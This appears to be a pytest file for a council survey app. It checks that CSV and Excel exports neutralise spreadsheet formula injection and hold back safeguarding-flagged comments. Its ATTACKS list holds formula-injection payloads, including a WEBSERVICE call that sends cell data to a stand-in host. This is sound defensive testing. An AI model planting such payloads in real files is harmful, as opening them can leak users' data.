"""Every CSV and Excel file the app and its commands write is data, not code: text a
spreadsheet would evaluate carries OWASP's quote prefix, numbers stay numbers, no Excel cell is
a formula, and the analysis reads our export back unchanged. Comments with an open
safeguarding flag leave the app only as a placeholder and count nowhere until actioned."""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import yaml
from sqlalchemy import select

import analysis
from analysis import spreadsheet
from analysis.text import WITHHELD
from instruments import SHIPPED_DIR, load_definitions, parse_instrument_text
from survey_app.comments.flags import flag_comments
from survey_app.definitions import load_instruments, store_instrument_version
from survey_app.extensions import db
from survey_app.models import Answer, InstrumentVersion, Response, Role, Wave, WaveMode
from survey_app.programme.invitations import Contact, add_invitations
from survey_app.results import compute_results, latest_results, table

from .helpers import add_user, csrf, sign_in

# Every way in OWASP's list and the attacks the issue found (HYPERLINK, WEBSERVICE).
ATTACKS = [
    '=HYPERLINK("http://x")',
    '=WEBSERVICE("http://x/?"&A1)',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
HYPERLINK = '=HYPERLINK("http://x","Q3")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ATTACK_INSTRUMENT = {
    "id": "attack",
    "title": "Formula test",
    "audience": "staff",
    "scales": {
        "agree5": {
            "labels": ["Strongly disagree", "Disagree", "Neither", "Agree", "Strongly agree"],
            "positive": [4, 5],
        }
    },
    "attributes": [{"id": "team", "text": "Your team", "choices": ["@SUM(A1)", "Plain team"]}],
    "questions": [
        {"id": "S1", "text": "A scale question", "scale": "agree5", "outcomes": ["O1"]},
        {
            "id": "C1",
            "type": "choice",
            "text": "-1+1 is the wording",
            "choices": ["-1+1", "+1", "Plain"],
        },
        {"id": "T1", "type": "text", "text": '=WEBSERVICE("http://x/?"&A1)'},
    ],
}


def _signed_in(app, email: str, role: Role):
    add_user(app, email, role)
    client = app.test_client()
    assert sign_in(client, email).status_code == 302
    return client


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))  # not read-only, so each cell's type shows


def _assert_no_formula_and_no_trigger(book: openpyxl.Workbook) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )


def _assert_csv_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                float(cell)  # only a number may start with "-" or "+": anything else fails here


def _attack_wave() -> int:
    """A wave of an uploaded instrument whose wording, choices, attribute, wave name and
    comments all try to be formulas (call inside an app context)."""
    instrument = parse_instrument_text(
        yaml.safe_dump(ATTACK_INSTRUMENT), "attack.yaml", load_definitions().framework
    )
    store_instrument_version(instrument, source="attack.yaml")
    version = db.session.scalar(
        select(InstrumentVersion).where(InstrumentVersion.instrument_id == "attack")
    )
    wave = Wave(
        label=HYPERLINK,
        instrument_version=version,
        audience="staff",
        mode=WaveMode.OPEN,
        opens_on=dt.date(2026, 7, 1),
        closes_on=dt.date(2026, 7, 31),
    )
    db.session.add(wave)
    db.session.flush()
    for number, comment in enumerate(ATTACKS):
        db.session.add(
            Response(
                wave_id=wave.id,
                submitted_on=dt.date(2026, 7, 3),
                weight=1.5 if number else None,
                attributes={"team": "@SUM(A1)"},
                answers=[
                    Answer(question_id="S1", value=str(1 + number % 5)),
                    Answer(question_id="C1", value="-1+1"),
                    Answer(question_id="T1", value=comment),
                ],
            )
        )
    db.session.commit()
    return wave.id


def test_responses_exports_neutralise_every_text_cell_and_read_back_unchanged(
    db_app, tmp_path
) -> None:
    with db_app.app_context():
        wave_id = _attack_wave()
    analyst = _signed_in(db_app, "analyst@council.example", Role.ANALYST)

    download = analyst.get(f"/staff/exports/responses.csv?wave={wave_id}")
    assert download.status_code == 200
    rows = _csv_cells(download.data)
    assert len(rows) == 1 + len(ATTACKS)  # a carriage return inside a comment starts no row
    header, body = rows[0], rows[1:]
    column = {name: i for i, name in enumerate(header)}
    assert sorted(row[column["T1"]] for row in body) == sorted("'" + a for a in ATTACKS)
    assert {row[column["C1"]] for row in body} == {"'-1+1"}
    assert {row[column["team"]] for row in body} == {"'@SUM(A1)"}
    assert {row[column["wave"]] for row in body} == {"'" + HYPERLINK}
    assert {row[column["weight"]] for row in body} == {"1.5", ""}  # a number, unquoted
    assert {row[column["S1"]] for row in body} == {"1", "2", "3", "4", "5"}
    _assert_csv_safe(rows)

    cli = db_app.test_cli_runner().invoke(
        args=["export", "responses", "--out", str(tmp_path / "export.csv")]
    )
    assert cli.exit_code == 0, cli.output
    assert (tmp_path / "export.csv").read_bytes() == download.data  # one writer for both
    read = analysis.read_responses(tmp_path / "export.csv")
    assert sorted(read["T1"]) == sorted(ATTACKS)
    assert (
        set(read["C1"]) == {"-1+1"}
        and set(read["team"]) == {"@SUM(A1)"}
        and set(read["wave"]) == {HYPERLINK}
    )

    workbook = analyst.get(f"/staff/exports/responses.xlsx?wave={wave_id}")
    assert workbook.status_code == 200
    book = _book(workbook.data)
    _assert_no_formula_and_no_trigger(book)
    sheet = book["responses"]
    names = [c.value for c in sheet[1]]
    comments = [
        sheet.cell(row=r, column=names.index("T1") + 1) for r in range(2, sheet.max_row + 1)
    ]
    # an XML parser may read a carriage return back as a line feed (with or without lxml)
    assert sorted(c.value.replace("\r", "\n") for c in comments) == sorted(
        "'" + a.replace("\r", "\n") for a in ATTACKS
    )
    assert {c.data_type for c in comments} == {"s"}
    weights = [
        sheet.cell(row=r, column=names.index("weight") + 1) for r in range(2, sheet.max_row + 1)
    ]
    assert {(w.value, w.data_type) for w in weights if w.value is not None} == {(1.5, "n")}
    codebook = {row[2]: row for row in book["codebook"].iter_rows(min_row=2, values_only=True)}
    assert codebook["T1"][3] == "'" + ATTACK_INSTRUMENT["questions"][2]["text"]
    assert codebook["C1"][3] == "'-1+1 is the wording" and codebook["C1"][5].startswith("'-1+1")


def test_mail_merge_names_and_addresses_are_not_formulas(app) -> None:
    with app.app_context():
        load_instruments(load_definitions())
        version = db.session.scalar(
            select(InstrumentVersion).where(InstrumentVersion.instrument_id == "member-pulse")
        )
        wave = Wave(
            label="2026-Q4",
            instrument_version=version,
            audience="members",
            mode=WaveMode.INVITE,
            opens_on=dt.date.today(),
            closes_on=dt.date.today() + dt.timedelta(days=9),
        )
        db.session.add(wave)
        db.session.flush()
        add_invitations(
            wave,
            [
                Contact("+1@council.example", '=HYPERLINK("http://x","Click me")'),
                Contact("cllr.b@council.example", "-1+1"),
                Contact("cllr.c@council.example", "Ann Other"),
            ],
        )
        db.session.commit()
        wave_id = wave.id
    analyst = _signed_in(app, "analyst@council.example", Role.ANALYST)
    download = analyst.get(f"/programme/waves/{wave_id}/invitations.csv")
    assert download.status_code == 200
    rows = _csv_cells(download.data)
    assert rows[0] == ["name", "email", "link"]
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {'\'=HYPERLINK("http://x","Click me")', "'-1+1", "Ann Other"}
    assert by_name['\'=HYPERLINK("http://x","Click me")'][1] == "'+1@council.example"
    assert all(row[2].startswith("http://pulse.test/") for row in rows[1:])  # links untouched
    _assert_csv_safe(rows)


def _member_wave(label: str, comments: list[str], extra: int = 0) -> int:
    """A closed member-pulse wave called ``label``: one response per comment plus ``extra``
    without one, every comment flagged the way ingestion flags them (inside an app context)."""
    definitions = load_definitions()
    load_instruments(definitions)
    scale_ids = [
        q.id for q in definitions.instrument("member-pulse").questions if q.type == "scale"
    ]
    version = db.session.scalar(
        select(InstrumentVersion).where(InstrumentVersion.instrument_id == "member-pulse")
    )
    wave = Wave(
        label=label,
        instrument_version=version,
        audience="members",
        mode=WaveMode.OPEN,
        opens_on=dt.date(2026, 7, 1),
        closes_on=dt.date(2026, 7, 31),
    )
    db.session.add(wave)
    db.session.flush()
    added = []
    for number, comment in enumerate([*comments, *[None] * extra]):
        answers = [
            Answer(question_id=q, value=str(1 + (number + k) % 5)) for k, q in enumerate(scale_ids)
        ]
        if comment is not None:
            answers.append(Answer(question_id="M90", value=comment))
        added.append(Response(wave_id=wave.id, submitted_on=dt.date(2026, 7, 3), answers=answers))
    db.session.add_all(added)
    db.session.flush()
    flag_comments([r.id for r in added])
    db.session.commit()
    return wave.id


DASHBOARD_DOWNLOADS = [
    "/dashboard/indices",
    "/dashboard/scorecard",
    "/dashboard/outcomes/O1/members/member-pulse/trend",
    "/dashboard/outcomes/O1/members/member-pulse/items",
]


def test_results_downloads_neutralise_text_and_keep_numbers(app) -> None:
    with app.app_context():
        _member_wave(HYPERLINK, [], extra=12)
        _member_wave("@SUM(A1) 2026-Q4", [], extra=12)
        compute_results()
    analyst = _signed_in(app, "analyst@council.example", Role.ANALYST)
    for path in DASHBOARD_DOWNLOADS:
        download = analyst.get(f"{path}.csv")
        assert download.status_code == 200, path
        rows = _csv_cells(download.data)
        _assert_csv_safe(rows)
        book = _book(analyst.get(f"{path}.xlsx").data)
        _assert_no_formula_and_no_trigger(book)
        cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value is not None]
        assert any(c.data_type == "n" for c in cells), path  # the figures are numbers
        if path != "/dashboard/scorecard":  # the wave's name, in a cell of the long tables
            assert "'" + HYPERLINK in {cell for row in rows for cell in row}, path
            assert "'" + HYPERLINK in {c.value for c in cells}, path
    indices = spreadsheet.read_csv(
        io.BytesIO(analyst.get("/dashboard/indices.csv").data), dtype={"wave": str}
    )
    assert set(indices["wave"]) == {HYPERLINK, "@SUM(A1) 2026-Q4"}
    # numbers, not neutralised text (whole numbers since figures show at their set precision)
    assert pd.api.types.is_numeric_dtype(indices["estimate"])


# --------------------------------------------------------------------------- safeguarding

FLAGGED = "I was bullied by my manager and the briefings never told us"  # theme: communication
OTHERS = ["Briefings are clearer now", "The newsletter keeps us informed", "Nothing to add"]
PLAIN = "Nothing more to add"  # no theme


def _theme_row(themes: pd.DataFrame, wave: str) -> pd.Series:
    rows = themes[
        (themes["wave"] == wave) & (themes["theme"] == "communication") & themes["by"].isna()
    ]
    assert len(rows) == 1
    return rows.iloc[0]


def _cli_themes(csv_path: Path, out: Path, wave: str) -> pd.Series:
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "analysis.cli",
            "indicators",
            "--responses",
            str(csv_path),
            "--instruments",
            str(SHIPPED_DIR),
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return _theme_row(spreadsheet.read_csv(out / "themes.csv", dtype={"wave": str}), wave)


def test_flagged_comments_are_withheld_from_every_export_and_from_themes_until_actioned(
    db_app, tmp_path
) -> None:
    with db_app.app_context():
        # 12 respondents, 11 comments: 10 people commenting once the flagged one is withheld,
        # the minimum for theme figures (min_comment_group_size)
        wave_id = _member_wave("2026-Q3", [FLAGGED, *OTHERS, *[PLAIN] * 7], extra=1)
        compute_results()
        themes = table(latest_results()[0], "themes")
    app_row = _theme_row(themes, "2026-Q3")
    assert (app_row["n_comments"], app_row["count"]) == (
        10,
        2,
    )  # the flagged comment counts nowhere
    assert app_row["n_commenting"] == 10

    analyst = _signed_in(db_app, "analyst@council.example", Role.ANALYST)
    exported = analyst.get(f"/staff/exports/responses.csv?wave={wave_id}").data.decode()
    assert "bullied" not in exported and exported.count(WITHHELD) == 1
    book = _book(analyst.get(f"/staff/exports/responses.xlsx?wave={wave_id}").data)
    values = [c for row in book["responses"].iter_rows(values_only=True) for c in row]
    assert WITHHELD in values and not any(isinstance(v, str) and "bullied" in v for v in values)
    cli = db_app.test_cli_runner().invoke(
        args=["export", "responses", "--out", str(tmp_path / "before.csv")]
    )
    assert cli.exit_code == 0, cli.output
    assert "bullied" not in (tmp_path / "before.csv").read_text()
    cli_row = _cli_themes(tmp_path / "before.csv", tmp_path / "before", "2026-Q3")
    assert (cli_row["n_comments"], cli_row["count"]) == (10, 2)  # the CLI leaves it out alike

    reviewer = _signed_in(db_app, "reviewer@council.example", Role.SAFEGUARDING)
    with db_app.app_context():
        flagged = db.session.scalar(select(Answer.response_id).where(Answer.value == FLAGGED))
    path = f"/comments/safeguarding/{flagged}/M90"
    done = reviewer.post(
        path, data={"csrf_token": csrf(reviewer, path), "action": "Passed to the safeguarding lead"}
    )
    assert done.status_code == 302

    assert FLAGGED in analyst.get(f"/staff/exports/responses.csv?wave={wave_id}").data.decode()
    cli = db_app.test_cli_runner().invoke(
        args=["export", "responses", "--out", str(tmp_path / "after.csv")]
    )
    assert cli.exit_code == 0 and WITHHELD not in (tmp_path / "after.csv").read_text()
    cli_row = _cli_themes(tmp_path / "after.csv", tmp_path / "after", "2026-Q3")
    assert (cli_row["n_comments"], cli_row["count"]) == (11, 3)
    with db_app.app_context():
        assert latest_results()[1], (
            "actioning a flag changes the data the results were computed from"
        )
        compute_results()
        app_row = _theme_row(table(latest_results()[0], "themes"), "2026-Q3")
    assert (app_row["n_comments"], app_row["count"]) == (11, 3)
